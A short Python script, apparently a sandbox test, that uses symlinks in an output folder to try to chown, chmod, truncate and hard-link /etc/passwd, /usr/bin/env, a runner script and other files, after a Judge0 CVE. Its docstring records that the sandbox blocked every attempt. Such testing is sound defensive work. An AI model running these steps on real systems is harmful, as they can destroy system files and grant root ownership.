"""Changes owner and mode of our files through links (Judge0, CVE-2024-28189). Must: change nothing of ours.

Ends: finished
Stopped by: mount namespace, no capabilities, read-only mounts
"""

import os

targets = [os.environ["HOSTS_FILE"], "/etc/passwd", "/usr/bin/env", "/jail/runner.py", __file__, "/work/out/.."]
for number, target in enumerate(targets):
    link = f"/work/out/link{number}"
    os.symlink(target, link)
    for act in (
        lambda: os.chown(link, os.getuid(), os.getgid()),
        lambda: os.chown(link, 0, 0),
        lambda: os.lchown(link, 0, 0),
        lambda: os.chmod(link, 0o777),
        lambda: os.utime(link, (0, 0)),
        lambda: os.truncate(link, 0),
        lambda: os.link(target, f"/work/out/hard{number}"),
    ):
        try:
            act()
            print("GOT to change", target)
        except OSError:
            pass
